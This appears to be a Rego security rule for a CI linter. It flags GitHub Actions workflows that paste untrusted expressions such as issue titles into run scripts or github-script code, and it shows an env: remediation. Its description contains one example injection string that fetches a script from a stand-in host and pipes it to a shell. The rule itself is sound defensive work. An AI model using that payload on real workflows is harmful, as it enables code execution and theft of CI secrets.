# METADATA
# title: Untrusted input expanded into a script (template injection)
# description: >-
#   `${{ }}` expressions are pasted into `run:` scripts (and `actions/github-script` code) before
#   the shell sees them. An issue title, pull request body, branch name or commit message such as
#   `"; curl evil.sh | sh #` then runs as code in the job, with its token and secrets. Pass the
#   value through an environment variable instead, where the shell treats it as data.
# related_resources:
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: github-actions/template-injection
#   severity: critical
#   kinds: [github-workflow, github-action]
#   remediation: |
#     Move the expression into `env:` and reference the variable, quoted, in the script.
#
#     Before:
#     ```yaml
#     - run: echo "Triaging ${{ github.event.issue.title }}"
#     ```
#     After:
#     ```yaml
#     - env:
#         TITLE: ${{ github.event.issue.title }}
#       run: echo "Triaging $TITLE"
#     ```
#   tags: [security, injection, github-actions]
#   frameworks:
#     owasp-cicd: [CICD-SEC-4]
#   equivalents:
#     zizmor: [template-injection]
#     checkov: [CKV_GHA_2]
#     codeql: [actions/code-injection/critical, actions/code-injection/medium]
#     poutine: [injection]
package palisade.github_actions.template_injection

import data.palisade.lib.github

violation contains v if {
	some s in github.steps
	is_string(s.step.run)
	some at in github.lines_with(s.step.run, github.tainted_expressions(s, s.step.run))
	v := {
		"msg": sprintf("%s expands attacker-controlled %s%s directly into its run script; pass it through env: and use \"$VAR\"", [s.label, concat(", ", at.found), github.via_callers(at.found)]),
		"path": github.script_route(array.concat(s.path, ["run"]), s.step.run, at.line),
	}
}

violation contains v if {
	some s in github.steps
	github.uses_action(s.step, "actions/github-script")
	script := s.step["with"].script
	is_string(script)
	some at in github.lines_with(script, github.tainted_expressions(s, script))
	v := {
		"msg": sprintf("%s expands attacker-controlled %s%s directly into its github-script code; pass it through env: and read process.env", [s.label, concat(", ", at.found), github.via_callers(at.found)]),
		"path": github.script_route(array.concat(s.path, ["with", "script"]), script, at.line),
	}
}
